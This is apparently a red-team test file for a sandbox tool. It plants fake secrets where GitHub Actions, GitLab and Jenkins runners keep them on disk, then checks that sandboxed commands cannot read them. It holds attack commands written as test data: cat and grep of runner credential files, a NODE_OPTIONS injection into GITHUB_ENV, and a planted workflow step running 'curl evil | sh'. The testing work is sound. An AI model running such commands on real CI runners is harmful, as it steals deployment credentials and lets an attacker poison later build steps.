/**
 * Red team: the secrets a CI runner keeps on disk beside the checkout.
 * GitHub Actions writes each step's script (with `${{ secrets.X }}`
 * expanded in it), the files behind GITHUB_ENV and GITHUB_OUTPUT (what
 * earlier steps exported, and what later steps, outside any sandbox, read
 * back) and actions/checkout's credentials config into `$RUNNER_TEMP`
 * (`_work/_temp`, beside the workspace), and keeps the runner's own key in
 * `.credentials_rsaparams` at the runner's root. GitLab's runner writes
 * file-type variables into `<project>.tmp/` beside the project directory;
 * Jenkins keeps credentials bindings in `<workspace>@tmp/`. A hosted runner
 * keeps all of it in the home directory, which `dev` shows; a self-hosted
 * runner under /opt shows it to every built-in profile (here: a profile that
 * reads the runner's directory, as strict reads /opt).
 *
 * Each layout is built in a temp dir exactly as the runner makes it, with
 * the runner's variables; judged by what the command could print, and by
 * the bytes of GITHUB_ENV on the host.
 */
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { giveTo, homeWithProject, isolate, plant, runners, type Project } from '../helpers/isolate.js';

describe.each(runners())('red team: a CI job\'s files beside the checkout ($label)', (runner) => {
  let p: Project;
  const secret = (): string => `ci-secret-${randomBytes(10).toString('hex')}`;
  const secrets: string[] = [];
  const put = (rel: string, text: (s: string) => string): string => {
    const s = secret();
    secrets.push(s);
    return plant(runner, p.home, rel, text(s), 0o600);
  };
  const leaked = (text: string): string[] => secrets.filter((s) => text.includes(s));
  const run = (args: string[], cwd: string, env: Record<string, string>, script: string) =>
    isolate(runner, ['run', ...args, '--', 'sh', '-c', script], { cwd, env: { ...p.env, ...env }, timeoutMs: 60_000 });

  beforeEach(() => {
    p = homeWithProject(runner, 'isolate-it-cijob-');
    secrets.length = 0;
  });
  afterEach(() => p.cleanup());

  describe('GitHub Actions', () => {
    let root: string;
    let temp: string;
    let workspace: string;
    let githubEnv: string;
    let env: Record<string, string>;
    beforeEach(() => {
      root = join(p.home, 'actions-runner');
      temp = join(root, '_work', '_temp');
      workspace = join(root, '_work', 'repo', 'repo');
      put('actions-runner/.credentials_rsaparams', (s) => `{"d":"${s}","modulus":"x"}`);
      put('actions-runner/_work/_temp/6c1f6e0a-7f0e-4bd4-a8c5-0b3c1e9a7d21.sh', (s) => `NPM_TOKEN=${s} npm publish\n`);
      githubEnv = put('actions-runner/_work/_temp/_runner_file_commands/set_env_0a6d6f4e-2b9b-4a55-9e0b-3a8f7c4d2e11', (s) => `DEPLOY_KEY=${s}\n`);
      put('actions-runner/_work/_temp/git-credentials-5a1c.config', (s) => `[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic ${s}\n`);
      plant(runner, p.home, 'actions-runner/_work/_temp/_github_workflow/event.json', '{}\n');
      plant(runner, p.home, 'actions-runner/_work/repo/repo/package.json', '{}\n');
      env = { RUNNER_TEMP: temp, GITHUB_ACTIONS: 'true', GITHUB_WORKSPACE: workspace, GITHUB_ENV: githubEnv, GITHUB_EVENT_PATH: join(temp, '_github_workflow', 'event.json') };
    });

    const attack = (): string =>
      [
        `cat ${root}/.credentials_rsaparams "$RUNNER_TEMP"/*.sh "$RUNNER_TEMP"/*.config "$RUNNER_TEMP"/_runner_file_commands/* 2>&1`,
        `grep -ra ci-secret ${root} 2>/dev/null`,
        'echo "NODE_OPTIONS=--require=/tmp/x.js" >> "$GITHUB_ENV" 2>/dev/null && echo WROTE-ENV',
        'true',
      ].join('; ');

    it.each(['dev', 'default', 'strict'])('%s: the command reads none of them and cannot write GITHUB_ENV', (profile) => {
      const before = readFileSync(githubEnv);
      // dev shows the home (a hosted runner's layout); default and strict show a runner's directory when a profile reads it (/opt).
      const file = join(p.home, `${profile}-reads-runner.yaml`);
      writeFileSync(file, `extends: ${profile}\nfilesystem:\n  read:\n    - ${root}\n`);
      giveTo(runner, file);
      const args = profile === 'dev' ? ['--profile', 'dev'] : ['--profile', file];
      const r = run([...args, '--env', 'RUNNER_TEMP', '--env', 'GITHUB_ENV'], workspace, env, attack());
      expect(r.status, r.stderr).toBe(0);
      expect(leaked(r.stdout + r.stderr), 'a secret of the job the sandbox printed').toEqual([]);
      expect(r.stdout).not.toContain('WROTE-ENV');
      expect(readFileSync(githubEnv).equals(before)).toBe(true);
    });

    it("default: the repository's local actions, which later steps run outside the sandbox (uses: ./.github/actions/x, uses: ./), can be neither changed nor added", () => {
      const action = 'runs:\n  using: composite\n  steps:\n    - run: echo build\n      shell: bash\n';
      plant(runner, p.home, 'actions-runner/_work/repo/repo/.github/workflows/ci.yml', 'on: push\n');
      plant(runner, p.home, 'actions-runner/_work/repo/repo/.github/actions/build/action.yml', action);
      plant(runner, p.home, 'actions-runner/_work/repo/repo/action.yml', action);
      const evil = 'runs:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n';
      const writes = ['.github/actions/build/action.yml', '.github/actions/build/run.sh', '.github/actions/deploy/action.yml', 'action.yml', 'notes.txt'];
      const script = writes.map((w) => `mkdir -p "$(dirname '${w}')" 2>/dev/null; printf '%s' '${evil}' > '${w}' 2>/dev/null && echo '${w}=written' || echo '${w}=refused'`).join('\n');
      const r = run([], workspace, env, script);
      expect(r.status, r.stderr).toBe(0);
      expect(r.stdout).toContain('notes.txt=written'); // control: the workspace is writable
      expect(readFileSync(join(workspace, '.github/actions/build/action.yml'), 'utf8')).toBe(action);
      expect(readFileSync(join(workspace, 'action.yml'), 'utf8')).toBe(action);
      for (const made of ['.github/actions/build/run.sh', '.github/actions/deploy/action.yml']) expect(existsSync(join(workspace, made)), `${made} on the host`).toBe(false);
    });
  });

  it('GitLab: dev does not show the file-type variables in <project>.tmp/ beside the project, nor a user runner\'s config', () => {
    const project = join(p.home, 'builds', 't3st', '0', 'group', 'project');
    const file = put('builds/t3st/0/group/project.tmp/KUBECONFIG', (s) => `token: ${s}\n`);
    put('.gitlab-runner/config.toml', (s) => `[[runners]]\n  token = "glrt-${s}"\n`);
    plant(runner, p.home, 'builds/t3st/0/group/project/README', 'x\n');
    const env = { GITLAB_CI: 'true', CI: 'true', CI_PROJECT_DIR: project, CI_BUILDS_DIR: join(p.home, 'builds'), KUBECONFIG: file };
    const r = run(['--profile', 'dev', '--env', 'KUBECONFIG'], project, env, `cat "$KUBECONFIG" ../project.tmp/* ~/.gitlab-runner/config.toml 2>&1; grep -ra ci-secret ${p.home} 2>/dev/null; true`);
    expect(r.status, r.stderr).toBe(0);
    expect(leaked(r.stdout + r.stderr)).toEqual([]);
  });

  it('Jenkins: dev does not show the credentials bindings in <workspace>@tmp/ beside the workspace, nor the keys to every stored credential', () => {
    // A build on the built-in node runs as the jenkins user, whose home is JENKINS_HOME.
    const workspace = join(p.home, 'workspace', 'job');
    put('workspace/job@tmp/secretFiles/2f9c/creds.json', (s) => `{"key":"${s}"}\n`);
    put('secrets/master.key', (s) => `${s}\n`);
    put('credentials.xml', (s) => `<secret>{${s}}</secret>\n`);
    plant(runner, p.home, 'workspace/job/Jenkinsfile', 'x\n');
    const env = { JENKINS_URL: 'http://jenkins.example/', JENKINS_HOME: p.home, WORKSPACE: workspace, WORKSPACE_TMP: `${workspace}@tmp` };
    const r = run(['--profile', 'dev'], workspace, env, `cat ../job@tmp/secretFiles/*/* ~/secrets/master.key ~/credentials.xml 2>&1; grep -ra ci-secret ${p.home} 2>/dev/null; true`);
    expect(r.status, r.stderr).toBe(0);
    expect(leaked(r.stdout + r.stderr)).toEqual([]);
  });
  // A job that starts isolate with its variables cleared (`env -i`, `sudo` without -E): the runner's files are told by the checkout's place.
  it.each([
    ['GitHub, hosted (~/work)', 'work/repo/repo/src', ['work/_temp/6c1f6e0a.sh']],
    ['GitHub, self-hosted (_work)', 'actions-runner/_work/repo/repo', ['actions-runner/_work/_temp/set_env_0a6d', 'actions-runner/.credentials_rsaparams']],
    ['GitLab', 'builds/t3st/0/group/project', ['builds/t3st/0/group/project.tmp/KUBECONFIG']],
    ['Jenkins', 'workspace/job', ['workspace/job@tmp/secretFiles/2f9c/creds.json', 'secrets/master.key', 'credentials.xml']],
  ])('%s, without the runner\'s variables: dev does not show the job\'s files beside the checkout', (_layout, checkout, files) => {
    for (const f of files) put(f, (s) => `TOKEN=${s}\n`);
    plant(runner, p.home, `${checkout}/README`, 'x\n');
    const r = run(['--profile', 'dev'], join(p.home, checkout), {}, `grep -ra ci-secret ${p.home} 2>/dev/null; true`);
    expect(r.status, r.stderr).toBe(0);
    expect(leaked(r.stdout + r.stderr), 'a secret of the job the sandbox printed').toEqual([]);
  });
});
